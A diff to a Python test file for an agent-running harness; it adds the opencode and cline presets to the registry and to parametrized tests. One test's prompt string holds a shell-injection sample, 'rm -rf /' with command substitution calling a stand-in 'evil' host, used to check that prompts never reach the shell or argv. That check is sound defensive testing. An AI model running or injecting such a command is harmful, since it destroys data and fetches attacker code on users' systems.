@@ -15,10 +15,12 @@ from runner.generators import build_chain, registry
 from runner.generators.agents.aider import AiderPreset, model_metadata
 from runner.generators.agents.base import AgentRun, summary_text
 from runner.generators.agents.claude_code import ClaudeCodePreset, result_object
+from runner.generators.agents.cline import ClinePreset
 from runner.generators.agents.codex import CodexPreset, config_toml
 from runner.generators.agents.gemini_cli import GeminiCliPreset
 from runner.generators.agents.install import Installation, installation, locate
 from runner.generators.agents.mini_swe_agent import TRAJECTORY, MiniSweAgentPreset, read_trajectory
+from runner.generators.agents.opencode import OpencodePreset
 from runner.sandbox.procs import ProcResult
 
 FAKE = Installation(Path("/opt/cli/bin/agent"), (), "file")
@@ -43,7 +45,7 @@ def settings(**extra: object):  # noqa: ANN201
 
 def test_presets_are_registered_built_ins() -> None:
     known = registry(plugins=[])
-    for name in ("claude-code", "codex", "aider", "mini-swe-agent", "gemini-cli"):
+    for name in ("claude-code", "codex", "aider", "mini-swe-agent", "gemini-cli", "opencode", "cline"):
         assert known[name][1] == "built-in"
 
 
@@ -203,7 +205,7 @@ def test_summaries_are_never_raw_json() -> None:
 
 
 @pytest.mark.parametrize("preset_type", [ClaudeCodePreset, CodexPreset, AiderPreset, MiniSweAgentPreset,
-                                         GeminiCliPreset])
+                                         GeminiCliPreset, OpencodePreset, ClinePreset])
 def test_the_instruction_never_travels_in_argv(tmp_path: Path, preset_type: type) -> None:
     """Stdin or a read-only file: no argument-size limit, no shell, nothing in /proc/PID/cmdline."""
     prompt = "; rm -rf / $(curl evil) `x` " + "long " * 40_000
